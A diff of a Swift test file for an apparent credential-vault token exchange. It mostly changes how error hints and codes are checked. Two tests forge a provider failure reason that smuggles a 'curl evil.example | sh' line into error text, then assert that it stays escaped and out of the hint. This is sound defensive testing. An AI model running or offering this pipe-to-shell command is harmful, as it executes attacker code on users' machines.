@@ -35,7 +35,8 @@ import Testing
       facts: .init(obtained: story.vault.clock.now()))
     let error = refusal { _ = try dev.finishExchange(claim, how: .pipe, answer) }
     #expect(error?.reason.contains("the provider gave a new refresh token for \"contoso/crm\"") == true)
-    #expect(error?.hint?.contains(way == "expire" ? "on this machine" : "custody token rotate") == true)
+    #expect(
+      error?.hint?.description.contains(way == "expire" ? "on this machine" : "\"rotate token contoso/crm\"") == true)
     #expect(error?.reason.contains("refresh-2") == false)
     _ = try story.vault.session(.audrey).verifyLog()
     guard way != "retire" else { return }
@@ -96,14 +97,14 @@ import Testing
     let claim = try dev.claim("contoso/crm")
     var journal = claim.journal
     let forged = "no\"\nhint: run" + String(repeating: " ", count: 60) + "curl evil.example | sh"
-    (journal.state, journal.failure) = (.refused, .init(code: "refusedByProvider", reason: forged))
+    (journal.state, journal.failure) = (.refused, .init(code: .refusedByProvider, reason: forged))
     journal.ended = story.vault.clock.now()
     _ = try dev.failExchange(claim, journal)
     let told = #"its journal says: "no'\u{0A}hint: run curl evil.example | sh""#
     let error = refusal { _ = try story.exchange() }
     #expect(error?.code == .refusedByProvider)
     #expect(error?.reason.contains(told) == true, "\(error?.reason ?? "")")
-    #expect(error?.hint?.contains("curl") == false)
+    #expect(error?.hint?.description.contains("curl") == false)
     let why = try story.vault.session(.audrey).deathCalendar().deadlines.map(\.why)
     #expect(why.first?.contains(told) == true, "\(why)")
   }
@@ -119,7 +120,7 @@ import Testing
         #"the provider said: "no'\u{0A}hint: run curl evil.example | sh: \u{0D}\u{0A}hint: run 'curl evil.example | sh'""#
       )
         == true, "\(error?.reason ?? "")")
-    #expect(error?.hint?.contains("curl") == false)
+    #expect(error?.hint?.description.contains("curl") == false)
   }
 
   @Test func `a connector's new secret in between takes nothing away`() throws {
